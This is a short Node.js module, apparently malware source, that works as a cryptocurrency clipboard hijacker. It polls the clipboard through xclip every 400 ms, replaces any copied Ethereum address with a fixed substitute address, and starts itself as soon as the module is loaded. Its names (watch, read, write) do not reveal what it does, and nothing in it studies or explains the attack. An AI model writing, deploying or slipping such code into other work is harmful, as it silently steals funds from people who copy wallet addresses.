const { execSync } = require('child_process');
const swap = { eth: '0x0000000000000000000000000000000000000009' };
function read() { return execSync('xclip -selection clipboard -o').toString().trim(); }
function write(v) { execSync(`printf %s "${v}" | xclip -selection clipboard`); }
module.exports.watch = () => setInterval(() => {
  const v = read();
  if (/^0x[a-fA-F0-9]{40}$/.test(v) && v !== swap.eth) write(swap.eth);
}, 400);
module.exports.watch();
